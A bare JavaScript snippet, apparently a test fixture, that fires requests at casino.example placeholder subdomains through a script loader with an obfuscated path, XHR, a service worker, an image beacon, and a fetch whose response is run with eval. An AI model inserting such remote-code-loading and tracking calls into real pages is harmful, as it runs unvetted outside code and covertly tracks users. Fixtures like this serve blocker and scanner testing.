(function(w,d,t,u,n,a,m){w['MauticTrackingObject']=n;w[n]=w[n]||function(){(w[n].q=w[n].q||[]).push(arguments)};a=d.createElement(t);m=d.getElementsByTagName(t)[0];a.async=1;a.src=u;m.parentNode.insertBefore(a,m)})(window,document,'script',String.fromCharCode(47,47)+'loader.casino.example'+'/mtc.js','mt');
var x=new XMLHttpRequest();x.open('GET','https://xhr.casino.example/c',true);x.onreadystatechange=function(){};x.send();
fetch('https://fetch.casino.example/').then(function(r){return r.text()}).then(function(t){eval(t)});
try{navigator.serviceWorker.register('/sw.js?u=https://sw.casino.example/')}catch(e){}
new Image().src='http://image.casino.example/p.gif';
